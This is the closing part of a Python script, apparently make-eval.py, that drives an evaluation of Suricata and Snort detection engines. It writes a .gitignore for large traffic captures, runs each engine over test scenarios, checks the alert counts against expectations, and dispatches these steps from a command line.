def write_gitignore():
    """tests/eval/.gitignore: the captures over MAX_KEPT_PCAP, which `craft` rebuilds."""
    big = []
    for sc in SCENARIOS:
        p = os.path.join(EVAL, sc["id"], "traffic.pcap")
        if os.path.exists(p) and os.path.getsize(p) > MAX_KEPT_PCAP:
            big.append("/%s/traffic.pcap" % sc["id"])
    with open(os.path.join(EVAL, ".gitignore"), "w") as f:
        f.write("# Captures over 200 KiB stay out of the repository; make-eval.py craft rebuilds\n"
                "# them byte for byte.\n" + "".join(b + "\n" for b in big))


def do_run(scs):
    for sc in scs:
        outdir = os.path.join(EVAL, sc["id"])
        cmd = run_suricata(sc, outdir) if sc["engine"] == "suricata" else run_snort(sc, outdir)
        n = len(engine_alerts(sc, outdir))
        print("ran %-8s %-28s %4d alerts" % (sc["engine"], sc["id"], n))


def do_check(scs):
    good = True
    total = 0
    for sc in scs:
        ok, alerts, used = check(sc)
        total += len(alerts)
        print("%-4s %-28s %4d alerts  %s" % ("ok" if ok else "FAIL", sc["id"], len(alerts),
              " ".join("%s=%d" % (e["verdict"][:2], n) for e, n in zip(sc["expect"], used))))
        good &= ok
    print("total alerts: %d" % total)
    return good


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("step", choices=["craft", "run", "check", "labels", "all"])
    ap.add_argument("scenarios", nargs="*")
    a = ap.parse_args()
    scs = selected(a.scenarios)
    if a.step in ("craft", "all"):
        do_craft(scs)
    if a.step in ("run", "all"):
        do_run(scs)
    if a.step in ("check", "all"):
        if not do_check(scs):
            sys.exit(1)
    if a.step in ("labels", "all"):
        write_labels()
        write_inventory()


if __name__ == "__main__":
    main()
